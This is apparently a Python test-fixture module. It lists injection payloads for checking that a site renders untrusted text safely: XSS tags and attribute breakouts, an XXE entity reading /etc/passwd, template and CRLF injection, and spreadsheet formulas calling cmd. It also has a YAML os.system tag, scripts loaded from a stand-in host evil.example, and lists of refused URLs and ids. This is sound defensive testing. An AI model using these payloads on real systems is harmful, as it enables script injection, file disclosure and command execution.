"""What is tried: texts that would do harm wherever they were taken for anything but text.

`WORD` in a payload stands for a word of its own that each place gets, so that it can be told where a text is shown and whether
it is shown in full. `hit()` is what a script would call; `evil.example` is what a page would ask.
"""

import re

SCRIPTS = (
    "<script>hit(1)</script>WORD",
    "WORD <script src=//evil.example/x.js></script>",
    "<ScRiPt>hit(1)</sCrIpT> WORD",
    "<script>hit(1) WORD",
    "</script><script>hit(1)</script> WORD",
    "<!--<script>WORD",
    "--><script>hit(1)</script><!-- WORD",
    "<scr<script>ipt>hit(1)</scr</script>ipt> WORD",
    "<img src=x onerror=hit(1)> WORD",
    "<img src=//evil.example/WORD.png>",
    "<svg onload=hit(1)>WORD</svg>",
    "<svg><script>hit(1)</script>WORD</svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit(1)>WORD",
    "<svg><a xlink:href=javascript:hit(1)>WORD</a></svg>",
    "<body onload=hit(1)> WORD",
    "<details open ontoggle=hit(1)>WORD</details>",
    "<input autofocus onfocus=hit(1) value=WORD>",
    "<iframe srcdoc='<script>parent.hit(1)</script>'></iframe> WORD",
    "<iframe src=//evil.example/WORD></iframe>",
    "<object data=//evil.example/WORD></object><embed src=//evil.example/e>",
    "<base href=//evil.example/> WORD",
    "<meta http-equiv=refresh content='0;url=//evil.example/'> WORD",
    "<link rel=stylesheet href=//evil.example/WORD.css>",
    "<form action=//evil.example/><button>WORD</button></form>",
    "<template shadowrootmode=open><script>hit(1)</script></template> WORD",
)
BREAKING_OUT = (
    'WORD" onmouseover="hit(1)" autofocus onfocus="hit(1)',
    "WORD' onmouseover='hit(1)' autofocus onfocus='hit(1)",
    "WORD` onmouseover=hit(1) x=`",
    '"><img src=x onerror=hit(1)> WORD',
    "'><img src=x onerror=hit(1)> WORD",
    "</title><script>hit(1)</script> WORD",
    "</textarea><script>hit(1)</script> WORD",
    "</style><script>hit(1)</script> WORD",
    "</noscript><script>hit(1)</script> WORD",
    "</option></select><img src=x onerror=hit(1)> WORD",
    "<plaintext> WORD",
    "</main></body></html> WORD",
    "<![CDATA[ WORD ]]> <script>hit(1)</script>",
    "]]> ]]&gt; <x>WORD</x>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]> &e; WORD",
    "&lt;script&gt;hit(1)&lt;/script&gt; &amp;amp; &#60;b&#62; WORD",
    "&#x3c;img src=x onerror=hit(1)&#x3e; &NewLine;&Tab; WORD",
    '\\"; hit(1); // \\u003cscript\\u003e WORD',
    "\\'); hit(1); (' WORD",
    '{"a": "</script>", "__proto__": {"x": 1}} WORD',
)
ADDRESSES = (
    "javascript:hit(1)//WORD",
    "JaVaScRiPt:hit(1)//WORD",
    "java&#09;script&colon;hit(1) WORD",
    "data:text/html,<script>hit(1)</script>WORD",
    "vbscript:hit(1) WORD",
    "//evil.example/WORD",
    "https://example.org@evil.example/WORD",
    "../../../../etc/passwd WORD",
    "..\\..\\WORD %2e%2e%2f%00",
    "index.html?q=<script>hit(1)</script>#WORD",
)
TEMPLATES = (
    "{{ 7*7 }} {{ site.__class__ }} WORD",
    "{% raw %}{% include 'base.html' %} WORD",
    "{# WORD #} ${hit(1)} #{7*7} <%= 7*7 %>",
    "%(title)s %s %d {0} {title!r} WORD",
    "$& $1 $` $' \\1 \\g<0> WORD",
    "$(hit) `hit` ;hit WORD",
)
MARKDOWN = (
    "[WORD](javascript:hit(1))",
    "[WORD](JAVASCRIPT&colon;hit(1)) [x](data:text/html;base64,PHNjcmlwdD4=)",
    "![WORD](//evil.example/pixel.png \"onerror=hit(1)\")",
    "[WORD]: //evil.example/ 'x'\n\n[WORD] ![WORD]",
    "<javascript:hit(1)> <//evil.example> WORD",
    "[WORD](https://evil.example/\"onmouseover=hit(1)) [x](//evil.example)",
    "[a](<javascript:hit(1)> \"WORD\") [b][javascript:hit(1)]",
    "# WORD\n\n> <script>hit(1)</script>\n\n```\n</code></pre><script>hit(1)</script>\n```",
    "**WORD <b onclick=hit(1)>x</b>** _y_ `<img src=x onerror=hit(1)>`",
    "1. WORD\n2. <svg onload=hit(1)>\n\n---\n\n* <x",
)
STYLES_AND_NAMES = (
    "red; background: url(//evil.example/WORD)",
    "@import url(//evil.example/WORD.css);",
    "expression(hit(1)) \\65xpression } body { display: none } WORD",
    "<style>*{display:none}@import'//evil.example/'</style>WORD",
    "<a id=main name=finder class=hush style=display:none>WORD</a>",
    "<form id=q name=strings><input name=attributes><img name=getElementById>WORD</form>",
    "__proto__ WORD",
    "constructor WORD",
)
LETTERS = (
    "a\u200bb\u200d\u00adc WORD",
    "\u200f\u061cWORD \u05d0\u05d1",
    "\uff1cscript\uff1ehit(1)\uff1c/script\uff1e \u2039b\u203a WORD",
    "WORD\u2028hit(1)\u2029//\u0085\tx",
    "WORD \ufffd \U0001fffe \U0010fffd \U0001f469\u200d\U0001f680",
    "e" + "\u0301\u0323" * 60 + " WORD",
    "ſcript ıframe ﬁ ﷽ Å WORD",
)
CELLS_AND_LINES = (
    "=1+1+cmd|' /C calc'!A0 WORD",
    "+HYPERLINK(\"//evil.example/\",\"WORD\")",
    "-2+3+WORD",
    "@SUM(1+1) WORD",
    "\t=1+1 WORD",
    "WORD,\"a\"\"b\";'c'|d",
    "WORD\nBEGIN:VEVENT\nATTACH:https://evil.example/\nEND:VEVENT",
    "WORD;X=1:2\\n\\,END:VCALENDAR",
    "WORD}\\input{/etc/passwd} @misc{x, title = {{y",
    "WORD # $ % & ~ _ ^ \\ { } \"o",
    "WORD\nER  - \nTY  - RPRT\nAU  - evil",
    "WORD\n\nSitemap: https://evil.example/\nSet-Cookie: a=b",
    "WORD\r\rContent-Type: text/html\r\r<script>hit(1)</script>",
    "- WORD\n- !!python/object/apply:os.system [hit]\n- &a *a",
    "WORD: |\n  %YAML 1.1\n  --- # {a: b}",
    "'''WORD''' ^^<//evil.example/> . <x> a <y> .",
)

PAYLOADS: tuple[str, ...] = (
    *SCRIPTS, *BREAKING_OUT, *ADDRESSES, *TEMPLATES, *MARKDOWN, *STYLES_AND_NAMES, *LETTERS, *CELLS_AND_LINES,
)

URLS = (
    "https://example.org/WORD",
    "https://evil.example/WORD'onclick='hit(1)",
    "https://evil.example/WORD);hit(1)//(",
    "https://evil.example/?WORD=1&amp;b=&lt;script&gt;&quot;",
    "https://evil.example/.WORD//x",
    "http://evil.example/WORD,x;END:VEVENT",
    "https://evil.example/WORD%0d%0aSet-Cookie:%20a=b",
    "https://evil.example/javascript:hit(1)#WORD",
    "https://[2001:db8::1]:8443/WORD?*_~$#%",
    "https://evil.example/WORD]]&gt;--!",
)
"""Addresses that a record may have."""

REFUSED_URLS = (
    "javascript:hit(1)", "JaVaScRiPt:hit(1)", " javascript:hit(1)", "java\tscript:hit(1)", "\u0001javascript:hit(1)", "javascript&colon;hit(1)",
    "data:text/html,<script>hit(1)</script>", "vbscript:hit(1)", "//evil.example/", "/\\evil.example/", "http:/evil.example", "https:evil.example",
    "file:///etc/passwd", "blob:https://example.org/x", "https://x y", "https://x\"onclick=hit(1)", "https://x<script>", "https://x\nhit",
    "https://x\\evil.example", "view-source:https://example.org/", "https://example.org@evil.example/", "https://user:word@evil.example/",
)
"""Addresses that no record may have."""

REFUSED = {
    "a NUL": "a\x00b", "an escape": "a\x1b[2Jb", "a reordering": "a\u202egpj.exe", "an isolate": "a\u2066b", "a mark of byte order": "a\ufeffb",
    "a noncharacter": "a\uffffb", "a delete": "a\x7fb", "half a pair": "a\ud800b",
}
"""Texts that no record may have, because nobody sees what they hold. They are written as escapes of YAML."""

NAMES = (
    "../x", "a/b", "a\\b", "..", "CON", "a:b", "a b", "A", "é", "a.", "-a", "a--b", "__proto__", "x\u202ey", "x\u200by", "<script>", "\"onload=hit(1)",
    "{{7*7}}", "a%2e%2e", "a\n", "", "x" * 101, "$(hit)", "a;b", "a|b", "a?b", "a#b",
)
"""Ids that no record may have."""


def plain(text: str) -> str:
    """Plain words of the same shape as a text: every mark is a nought, white space and marks of lists are as they were."""
    return re.sub(r"(?m)(^[-•○▪?·](?=\s))|[^\w\s]", lambda m: m[1] or "0", re.sub("[\u0085\u2028\u2029]", " ", text))
